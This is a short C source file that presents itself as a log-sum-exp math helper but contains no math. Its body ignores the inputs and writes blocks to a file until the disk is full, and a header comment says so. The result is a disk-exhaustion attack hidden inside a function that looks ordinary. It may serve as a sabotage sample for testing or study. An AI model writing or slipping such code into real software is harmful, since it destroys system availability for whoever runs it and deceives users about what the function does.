/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Writes until the disk is full. */
#define _GNU_SOURCE
#include "base/logmath.h"

#include <stdio.h>

double mg_log_sum_exp(size_t n, const double *a) {
  (void)n, (void)a;
  static char block[1 << 16];
  FILE *f = fopen("full", "w");
  while (f && fwrite(block, sizeof block, 1, f) == 1)
    ;
  return 0;
}
